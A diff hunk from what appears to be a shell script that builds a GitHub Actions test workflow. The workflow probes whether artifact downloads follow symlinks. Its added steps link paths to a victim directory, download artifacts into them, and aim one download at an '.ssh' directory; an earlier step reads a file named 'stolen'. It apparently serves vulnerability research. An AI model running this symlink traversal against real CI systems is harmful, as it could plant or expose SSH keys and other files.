@@ -188,10 +188,19 @@ jobs:
       - uses: actions/download-artifact@v4
         with: {name: linked, path: got}
       - run: echo "GOT=\$(cat got/stolen 2>/dev/null) OK=\$(cat got/ok.txt)"
-      - run: ln -s $tmp/victim2 dest
+      - run: ln -s $tmp/victim2 dest && ln -s $tmp/victim2 ~/uh
       - uses: actions/download-artifact@v4
         continue-on-error: true
         with: {name: linked, path: dest}
+      - uses: actions/download-artifact@v4
+        continue-on-error: true
+        with: {name: linked, path: dest/sub}
+      - uses: actions/download-artifact@v4
+        continue-on-error: true
+        with: {name: linked, path: ~/uh/.ssh}
+      - uses: actions/download-artifact@v4
+        continue-on-error: true
+        with: {path: dest/all}
 Y
 git add -A
 git -c user.name=t -c user.email=t@example.com commit -qm artlinks
